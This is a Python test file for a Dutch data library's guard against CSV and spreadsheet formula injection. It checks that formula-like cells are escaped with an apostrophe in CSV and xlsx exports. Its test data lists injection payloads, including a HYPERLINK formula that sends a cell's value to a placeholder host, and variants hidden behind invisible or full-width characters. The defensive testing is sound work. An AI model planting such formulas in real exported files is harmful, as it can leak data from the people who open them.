"""A text that looks like a formula is text for a spreadsheet; a number stays a number."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ijw_lib.cli import tabellen
from ijw_lib.model.gegevens import regels
from ijw_lib.model.rekenblad import csv_tekst
from ijw_lib.publicatie.meenemen import downloads
from ijw_lib.registers.bestand import Uitval
from ijw_lib.registers.oorzaken import schrijf_uitval

_FORMULES = (
    '=HYPERLINK("https://x.example/?v="&A1,"meer")',
    "+1+2",
    "-1-2",
    "@SUM(A1)",
    "\t=1",
    "\tx",
    "\r=1",
    "\nx",
    "  =1",
    "\u00a0=1",
    '"=1',
    "'=1",
    " '\" =1",
    "‘=1",
    "\ufeff=1",
    "\u200b=1",
    "＝1+1",
    "＋1",
    "－cmd",
    "＠x",
    "- streepje",
    "--",
    "-x",
    "=",
    "+",
    "@",
    "−(1)",
    "-12,5+1",
    "-1-1",
)
_GEWOON = (
    "",
    "-",
    "-12,5",
    "-121",
    "-1.234,56",
    "-0.3333333333",
    "+5",
    "-4%",
    "−5",
    " -5",
    "€ -5",
    "Velsen",
    "'s-Gravenhage",
    "a=b",
    "1+1",
    "t_x/=1/k/",
    "2024-08-31",
    "(=1)",
    "<b>",
)


@pytest.mark.parametrize("tekst", _FORMULES)
def test_een_formule_krijgt_een_apostrof(tekst: str) -> None:
    assert csv_tekst(tekst) == f"'{tekst}".replace("\r", "\n")


@pytest.mark.parametrize("tekst", _GEWOON)
def test_een_getal_of_gewone_tekst_blijft(tekst: str) -> None:
    assert csv_tekst(tekst) == tekst


def test_een_regeleinde_begint_geen_rij() -> None:
    assert csv_tekst("een\r=1\r\n=2") == "een\n=1\n=2"


def _frame() -> pd.DataFrame:
    rijen = [
        ["2031", "t", tekst, "+1+2", "", "-12.5", "eur", "getal", "-13", f"t/r{nr}/k/"]
        for nr, tekst in enumerate(_FORMULES)
    ]
    return pd.DataFrame(rijen, columns=list(tabellen.KOLOMMEN))


def test_ijw_tables_schrijft_geen_formule(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tabellen.schrijf(_frame(), tmp_path / "t.csv")
    tabellen.schrijf(_frame(), None)
    tekst = (tmp_path / "t.csv").read_bytes().decode()
    assert capsys.readouterr().out == tekst
    gelezen = list(csv.DictReader(io.StringIO(tekst, newline="")))
    assert [r["rij"] for r in gelezen] == [csv_tekst(f) for f in _FORMULES]
    assert {(r["kolom"], r["waarde"], r["weergave"]) for r in gelezen} == {("'+1+2", "-12.5", "-13")}
    assert [r["cel"] for r in gelezen] == [f"t/r{nr}/k/" for nr in range(len(_FORMULES))]


def _is_tekst(werkboek: bytes, teksten: set[str]) -> None:
    """Every text is a string cell as it was written; no cell is a formula or a link."""
    with zipfile.ZipFile(io.BytesIO(werkboek)) as bestand:
        bladen = b"".join(bestand.read(n) for n in bestand.namelist() if "worksheets" in n)
    assert b"<f>" not in bladen
    assert b"hyperlink" not in bladen.lower()
    cellen = [c for blad in openpyxl.load_workbook(io.BytesIO(werkboek)) for rij in blad for c in rij]
    gevonden = {c.value: c.data_type for c in cellen if c.value in teksten}
    assert gevonden == dict.fromkeys(teksten, "s")


def test_een_werkboek_van_ijw_tables_heeft_alleen_tekst_en_getallen(tmp_path: Path) -> None:
    tabellen.schrijf(_frame(), tmp_path / "t.xlsx")
    _is_tekst((tmp_path / "t.xlsx").read_bytes(), {_FORMULES[0], "+1+2", "@SUM(A1)", "  =1"})
    waarden = pd.read_excel(tmp_path / "t.xlsx", sheet_name="cellen", engine="openpyxl")["waarde"]
    assert set(waarden) == {-12.5}


def test_een_download_heeft_alleen_tekst_en_getallen() -> None:
    gegevens = {
        "tabel": "t",
        "titel": "=1",
        "naam": "",
        "eenheid": "+1+2",
        "schaal": 1,
        "decimalen": 0,
        "rijen": [["r", _FORMULES[0]]],
        "kolommen": [["k", "https://x.example"]],
        "cellen": [[0, 0, "@SUM(A1)", "-121", "getal", "-121", "aantal"]],
    }
    [rij] = csv.DictReader(io.StringIO(downloads.als_csv(regels(gegevens)).decode(), newline=""))
    assert (rij["rij"], rij["gemeente"]) == (f"'{_FORMULES[0]}", "'@SUM(A1)")
    assert (rij["waarde"], rij["weergave"], rij["cel"]) == ("-121", "-121", "t/r/k/@SUM(A1)")
    teksten = {_FORMULES[0], "+1+2", "https://x.example", "@x"}
    boek = downloads.Werkboek([("Let op", "=2")], [(gegevens, [("Noot", "@x")])])
    _is_tekst(boek.inhoud("=3"), teksten | {"=2", "1 =1"})
    assert boek.bladen() == ["1 =1"]


def test_uitval_is_te_openen(tmp_path: Path) -> None:
    schrijf_uitval([Uitval("a.csv", 3, "bedrag", "=1+1", "is geen bedrag")], tmp_path / "uitval.csv")
    assert (tmp_path / "uitval.csv").read_text(encoding="utf-8").split("\n")[1] == (
        "a.csv,3,bedrag,'=1+1,is geen bedrag"
    )
